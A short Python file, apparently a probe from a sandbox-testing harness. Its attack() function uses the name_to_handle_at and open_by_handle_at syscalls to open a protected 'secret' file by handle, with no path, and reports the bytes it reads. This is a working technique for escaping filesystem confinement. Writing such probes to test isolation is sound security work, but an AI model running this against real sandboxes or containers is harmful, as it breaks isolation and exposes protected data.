"""opens the secret by its file handle, without a path"""

import ctypes
import os
import struct


def attack():
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 8 + 128)
    mount_id = ctypes.c_int()
    path = os.fsencode(TARGETS["secret"])
    syscall(303, -100, path, handle, ctypes.byref(mount_id), 0)
    near = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    fd = syscall(304, near, handle, os.O_RDONLY)
    reached(os.read(fd, 20))
